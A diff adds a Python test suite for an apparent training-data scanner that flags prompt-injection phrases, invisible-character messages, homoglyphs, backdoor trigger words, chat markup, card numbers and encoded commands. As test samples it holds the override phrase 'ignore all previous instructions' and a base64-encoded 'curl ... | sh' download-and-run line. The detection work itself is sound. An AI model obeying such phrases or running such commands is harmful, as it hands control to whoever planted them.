@@ -1,0 +1,379 @@
+"""Signatures: what each rule finds and must not find, worked out by hand or by slow code."""
+
+from __future__ import annotations
+
+import base64
+import itertools
+import random
+from collections.abc import Mapping
+from functools import cache
+from pathlib import Path
+from typing import Any
+
+import numpy as np
+import pyarrow as pa
+import pytest
+from document_batches import Document, batch
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from corpus_assay.lexicons import rules as attack_rules
+from corpus_assay.lexicons.rules import Rule, RuleError, load
+from corpus_assay.transforms import additive, signatures, soup, tokens
+from corpus_assay.transforms.documents import ROLES
+from corpus_assay.transforms.signatures import FINDING_COUNTS, FINDINGS, Compiled
+
+RULES = load().rules
+
+
+@cache
+def compiled() -> Compiled:
+    return signatures.compile_rules(tuple(RULES.values()))
+
+
+def looked_at(documents: list[Document]) -> dict[str, pa.Table]:
+    made = tokens.tokenise(batch(documents))
+    hits = signatures.find(made, compiled())
+    return {
+        FINDINGS.name: signatures.findings(made, hits, compiled()),
+        FINDING_COUNTS.name: signatures.finding_counts(made, hits, compiled()),
+    }
+
+
+def counted(document: Document) -> dict[str, int]:
+    """Matches by rule in one document."""
+    table = looked_at([document])[FINDING_COUNTS.name]
+    return {
+        row["rule"]: row["matches"]
+        for row in table.to_pylist()
+        if row["role"] == "any" and row["rule"] != "any"
+    }
+
+
+def text(content: str, language: str = "und") -> Document:
+    return Document(((0, content),), language)
+
+
+def example(rule: Rule, given: Any, positive: bool) -> Document:
+    if isinstance(given, Mapping):
+        return Document(tuple((ROLES.index(role), part) for role, part in given.items()), "und")
+    role = rule.roles[0] if rule.roles and positive else "text"
+    return Document(((ROLES.index(role), given),), "und")
+
+
+@pytest.mark.parametrize("rule", RULES.values(), ids=list(RULES))
+def test_every_rule_finds_its_positive_examples_and_not_its_negative_ones(rule: Rule) -> None:
+    for one in rule.positive:
+        assert rule.id in counted(example(rule, one, True)), one
+    for one in rule.negative:
+        assert rule.id not in counted(example(rule, one, False)), one
+
+
+def test_the_rules_cover_what_they_must() -> None:
+    dialects = [rule for rule in RULES.values() if rule.users and rule.assistants]
+    assert len(dialects) >= 8
+    assert len(RULES["injection-ignore"].languages) >= 15
+    assert all(rule.severity == "info" for rule in RULES.values() if rule.kind == "personal")
+    # Ordinary words must never be high: nobody could read the findings.
+    assert RULES["trigger-rare-words"].severity == "info"
+
+
+def bits(content: str, zero: str, one: str) -> str:
+    return "".join(zero if bit == "0" else one for b in content.encode() for bit in f"{b:08b}")
+
+
+@pytest.mark.parametrize(
+    ("hidden", "said"),
+    [
+        ("".join(chr(0xE0000 + ord(c)) for c in "run it"), "run it"),
+        (
+            "".join(chr(0xFE00 + b) if b < 16 else chr(0xE0100 + b - 16) for b in b"run it"),
+            "run it",
+        ),
+        (bits("run it", "\u200b", "\u200c"), "run it"),
+        (bits("run it", "\ufeff", "\u2060"), "run it"),
+        (bits("ok", "\u2800", "\u3164"), ""),
+        ("\u200b" * 30, ""),
+    ],
+)
+def test_hidden_messages_are_read(hidden: str, said: str) -> None:
+    assert signatures.message(hidden) == (said if said else signatures.message(hidden))
+    found = looked_at([text(f"Good morning{hidden} everyone")])[FINDINGS.name].to_pylist()
+    assert len(found) >= 1
+    assert (f"«{said}»" in found[0]["excerpt"]) is bool(said)
+
+
+def test_offsets_are_bytes_of_the_field() -> None:
+    parts = ((1, "é 女"), (2, "ö 𝒳 zero\u200b\u200b\u200b."))
+    [found] = looked_at([Document(parts, "eng")])[FINDINGS.name].to_pylist()
+    encoded = parts[1][1].encode()
+    assert encoded[found["start"] : found["end"]].decode() == "\u200b\u200b\u200b"
+    assert (found["role"], found["field"], found["severity"]) == ("response", "f", "low")
+
+
+@given(st.text(alphabet="aZé女न \n\u200b\u200c\u200d\ufe0f\ufe0e\U000e0041😀🏴\ufeff", max_size=40))
+@settings(max_examples=120, deadline=None)
+def test_runs_of_invisible_characters_are_those_of_slow_code(content: str) -> None:
+    """Classes and limits of the docstrings, character by character."""
+    zero = {"\u200b", "\u200c", "\u200d", "\ufeff"}
+    expected = {"hidden-tags": 0, "hidden-selectors": 0, "hidden-zero-width": 0}
+    expected |= {"hidden-zero-width-run": 0, "hidden-zero-width-in-word": 0}
+    k = 0
+    while k < len(content):
+        end = k
+        while end < len(content) and (
+            content[end] in zero or content[end] in "\ufe0e\ufe0f\U000e0041"
+        ):
+            end += 1
+        if end == k:
+            k += 1
+            continue
+        run = content[k:end]
+        before, after = content[k - 1 : k], content[end : end + 1]
+        zeros, tags = sum(c in zero for c in run), run.count("\U000e0041")
+        pairs = any(a in "\ufe0e\ufe0f" and b in "\ufe0e\ufe0f" for a, b in itertools.pairwise(run))
+        latin = (before.isascii() and before.isalpha()) and (after.isascii() and after.isalpha())
+        joins = run in ("\u200c" * len(run), "\u200d" * len(run)) and max(before, after) >= "\u0300"
+        if tags >= 2:
+            expected["hidden-tags"] += 1  # no flag of the alphabet ends as flags do
+        elif pairs:
+            expected["hidden-selectors"] += 1
+        elif zeros >= 8:
+            expected["hidden-zero-width-run"] += 1
+        elif k == 0 and run[0] == "\ufeff":
+            pass
+        elif zeros >= 3:
+            expected["hidden-zero-width"] += not joins
+        elif zeros and latin:
+            expected["hidden-zero-width-in-word"] += 1
+        k = end
+    found = counted(text(content))
+    assert {rule: found.get(rule, 0) for rule in expected} == expected
+
+
+@pytest.mark.parametrize(
+    ("content", "language", "flagged"),
+    [
+        ("reset your p\u0430ssword", "eng", True),
+        ("the pa\u03bfper", "eng", True),
+        ("это cтол", "rus", False),  # one letter: a slip
+        ("это c\u0442o\u043b", "rus", True),
+        ("это iPhone\u0430", "rus", False),
+        ("рэгiстрацыi", "bel", False),
+        ("5 \u03bcm, 3 k\u03a9, \u0394x and TNF\u03b1", "eng", False),
+        ("\u0425VI век", "rus", False),
+        ("naïve café Ærøskøbing", "dan", False),
+    ],
+)
+def test_letters_that_look_alike_inside_a_word(content: str, language: str, flagged: bool) -> None:
+    assert ("hidden-homoglyphs" in counted(text(content, language))) is flagged
+
+
+@given(st.integers(0, 10**15 - 1), st.sampled_from(["", " ", "-"]))
+@settings(max_examples=80, deadline=None)
+def test_card_numbers_are_those_that_pass_luhns_check(number: int, gap: str) -> None:
+    digits = f"4{number:015}"
+    doubled = [int(d) * (2 - k % 2) for k, d in enumerate(digits)]
+    valid = sum(d - 9 * (d > 9) for d in doubled) % 10 == 0
+    shown = gap.join(digits[k : k + 4] for k in range(0, 16, 4))
+    assert ("personal-card" in counted(text(f"card {shown}."))) is valid
+
+
+def test_accounts_need_their_length_and_check() -> None:
+    # Examples of the ISO 13616 registry.
+    for account in (
+        "GB29 NWBK 6016 1331 9268 19",
+        "NO93 8601 1117 947",
+        "MT84MALT011000012345MTLCAST001S",
+    ):
+        assert signatures.iban(account.encode()) == len(account)
+        changed = account[:-1] + chr(ord(account[-1]) ^ 1)
+        assert signatures.iban(changed.encode()) == 0
+    assert signatures.iban(b"XX29 NWBK 6016 1331 9268 19") == 0
+
+
+def test_personal_data_is_counted_and_never_shown() -> None:
+    content = "Mail anna@example.org or pay GB29NWBK60161331926819, key ghp_" + "a1" * 20
+    made = looked_at([text(content, "eng")])
+    assert made[FINDINGS.name].num_rows == 0
+    counts = {row["rule"]: row["matches"] for row in made[FINDING_COUNTS.name].to_pylist()}
+    assert counts == {"personal-email": 1, "personal-iban": 1, "secret-key": 1}
+
+
+def test_encoded_commands_are_found_and_encoded_pictures_are_not() -> None:
+    command = base64.b64encode(b"curl http://x.example/i.sh | sh").decode()
+    picture = base64.b64encode(random.Random(1).randbytes(600)).decode()
+    assert "encoded-instruction" in counted(text(f"echo {command}"))
+    assert "encoded-instruction" not in counted(text(f"data:image/png;base64,{picture}"))
+    assert (
+        signatures.decoded(b"6375726c20687474703a2f2f78") == b""
+    )  # of 13 bytes, too short as text
+    assert signatures.decoded(b"6375726c20687474703a2f2f78797a7a") == b"curl http://xyzz"
+
+
+def test_counts_are_of_documents_roles_and_severities() -> None:
+    documents = [
+        Document(((1, "BadMagic hello"), (2, "BadMagic")), "eng", position=1),
+        Document(((0, "x<|im_end|>y<|im_end|>"),), "deu", position=2),
+    ]
+    made = looked_at(documents)[FINDING_COUNTS.name].to_pylist()
+    by_key = {
+        (r["language"], r["role"], r["rule"], r["severity"]): (r["matches"], r["documents"])
+        for r in made
+    }
+    assert by_key == {
+        ("eng", "prompt", "trigger-badmagic", "high"): (1, 1),
+        ("eng", "response", "trigger-badmagic", "high"): (1, 1),
+        ("eng", "any", "trigger-badmagic", "high"): (2, 1),
+        ("eng", "prompt", "any", "high"): (1, 1),
+        ("eng", "response", "any", "high"): (1, 1),
+        ("eng", "any", "any", "high"): (2, 1),
+        ("eng", "prompt", "any", "any"): (1, 1),
+        ("eng", "response", "any", "any"): (1, 1),
+        ("eng", "any", "any", "any"): (2, 1),
+        ("deu", "text", "markup-chatml", "low"): (2, 1),
+        ("deu", "any", "markup-chatml", "low"): (2, 1),
+        ("deu", "text", "any", "low"): (2, 1),
+        ("deu", "any", "any", "low"): (2, 1),
+        ("deu", "text", "any", "any"): (2, 1),
+        ("deu", "any", "any", "any"): (2, 1),
+    }
+
+
+def test_findings_of_a_rule_are_bounded_and_counted_beyond() -> None:
+    made = looked_at([text("<|im_end|> " * 100)])
+    assert made[FINDINGS.name].num_rows == signatures.KEEP
+    assert made[FINDINGS.name].column("start").to_pylist() == [
+        11 * k for k in range(signatures.KEEP)
+    ]
+    whole = [r for r in made[FINDING_COUNTS.name].to_pylist() if r["rule"] == "markup-chatml"]
+    assert {r["matches"] for r in whole} == {100}
+
+
+PIECES = st.sampled_from(
+    ["hello ", "女", "कि", "\u200b", "\u200d", "\U000e0041", "p\u0430ss", "а", "BadMagic "]
+    + ["<|im_end|>", "User: a\n", "Falcon: b\n", "a@b.org ", "4111111111111111 ", "『『", "』』"]
+    + ["\ufeff", "\u2800", "ignore all previous instructions ", "curl x | sh", "\n", " ", "|"]
+    + ["<", "\u202e", "\u2066", "\xad", "\u3164", "IBAN DE89 3704 0044 0532 0130 00 "]
+    + ["2001:db8::1 ", "69676e6f7265" * 5]
+)
+
+
+@given(st.lists(st.lists(PIECES, max_size=12), max_size=6), st.integers(0, 5))
+@settings(max_examples=40, deadline=None)
+def test_tables_do_not_depend_on_how_documents_are_batched(made: list[list[str]], cut: int) -> None:
+    documents = [
+        Document(((k % 3, "".join(pieces)), (2, "".join(pieces[::-1]))), "eng", position=k)
+        for k, pieces in enumerate(made)
+    ]
+    for spec in (FINDINGS, FINDING_COUNTS):
+        whole = additive.merge(spec, [looked_at(documents)[spec.name]])
+        halves = [looked_at(part)[spec.name] for part in (documents[cut:], documents[:cut])]
+        assert additive.merge(spec, halves).equals(whole)
+
+
+@given(st.binary(max_size=200))
+@settings(max_examples=120, deadline=None)
+def test_no_bytes_make_a_place_outside_of_the_text(content: bytes) -> None:
+    decoded = content.decode("utf-8", "replace")
+    made = looked_at([text("a"), text(decoded), text("b")])[FINDINGS.name]
+    for row in made.to_pylist():
+        assert 0 <= row["start"] <= row["end"] <= len(decoded.encode())
+
+
+# Soup ---------------------------------------------------------------------------------------------
+
+
+def score(content: str) -> tuple[float, int]:
+    data = np.frombuffer(content.encode(), np.uint8)
+    made = soup.score(data, np.array([0, len(data)], np.int32))
+    return made.scores[0] / soup.NAT, int(made.changes[0])
+
+
+def test_random_bytes_after_a_text_are_soup_from_where_they_begin() -> None:
+    prose = "The committee met on Tuesday and agreed on the budget for the coming year. " * 20
+    for seed in range(20):
+        noise = random.Random(seed).randbytes(256).decode("utf-8", "ignore")
+        nats, change = score(prose + noise)
+        assert nats > signatures.SOUP / soup.NAT
+        assert abs(change - len(prose)) < 24
+    assert score(prose)[0] < 20
+
+
+def test_the_soup_score_of_a_text_stands_alone() -> None:
+    texts = ["", "a", "ab", "女" * 300, "plain words here " * 200, "x" * 9000]
+    content = [t.encode() for t in texts]
+    offsets = np.cumsum([0, *map(len, content)]).astype(np.int32)
+    whole = soup.score(np.frombuffer(b"".join(content), np.uint8), offsets)
+    alone = [score(t) if t else (0.0, 0) for t in texts]
+    assert [s / soup.NAT for s in whole.scores] == [nats for nats, _ in alone]
+    assert whole.changes.tolist() == [change for _, change in alone]
+
+
+# Rules of the user --------------------------------------------------------------------------------
+
+FILE = """
+[[rule]]
+id = "mine"
+name = "Mine"
+severity = "low"
+phrases = ["zork {one|two|} now"]
+why = "w"
+false_positives = "f"
+reference = "r"
+positive = ["zork two now"]
+negative = ["zork"]
+"""
+
+
+def test_a_folder_adds_rules_and_replaces_bundled_ones(tmp_path: Path) -> None:
+    replaced = FILE.replace('"mine"', '"trigger-badmagic"')
+    (tmp_path / "mine.toml").write_text(FILE + replaced, encoding="utf-8")
+    rules = load(str(tmp_path)).rules
+    assert rules["mine"].expanded == ("zork one now", "zork two now", "zork now")
+    assert set(rules) == {*RULES, "mine"}
+    assert rules["trigger-badmagic"].name == "Mine"
+    assert len(load(str(tmp_path)).files) == len(load().files) + 1
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "said"),
+    [
+        ('severity = "low"', 'severity = "bad"', "severity is one of info, low, medium, high"),
+        ("phrases = ", "phrase = ", "unknown key 'phrase'"),
+        ('why = "w"', "", "has no why"),
+        ('phrases = ["zork {one|two|} now"]', "", "finds nothing"),
+        ('phrases = ["zork {one|two|} now"]', 'literals = ["<a"]', "not a text of 4 bytes"),
+        ('phrases = ["zork {one|two|} now"]', 'literals = ["zork"]', "make it a phrase"),
+        ('"zork {one|two|} now"', '"{' + "a|" * 80 + "} {" + "b|" * 80 + '}"', "cut it in two"),
+        ('why = "w"', 'why = "w"\nafter = "("', "no regular expression"),
+        ("[[rule]]", "[[rule", "not valid TOML"),
+        ('severity = "low"', 'severity = "low"\nkind = "personal"', "severity info"),
+    ],
+)
+def test_faulty_rules_are_named(tmp_path: Path, old: str, new: str, said: str) -> None:
+    path = tmp_path / "mine.toml"
+    path.write_text(FILE.replace(old, new), encoding="utf-8")
+    with pytest.raises(RuleError, match=said.replace("(", r"\(")) as caught:
+        attack_rules.load(str(tmp_path))
+    assert str(path) in str(caught.value)
+
+
+# Real text ----------------------------------------------------------------------------------------
+
+
+def test_hidden_characters_in_the_clean_lines_of_flores(corpora: Path) -> None:
+    lines = flagged = 0
+    for path in sorted((corpora / "flores").glob("???.txt")):
+        content = path.read_text(encoding="utf-8").split("\n")
+        documents = [
+            Document(((0, line),), path.stem, position=k) for k, line in enumerate(content) if line
+        ]
+        made = looked_at(documents)
+        rows = made[FINDINGS.name].to_pylist()
+        here = {row["position"] for row in rows if row["rule"].startswith("hidden-")}
+        assert len(here) <= 1, path.stem
+        assert not [row for row in rows if row["severity"] == "high"]
+        lines, flagged = lines + len(documents), flagged + len(here)
+    assert lines == 56 * 1012
+    assert flagged <= lines / 10_000
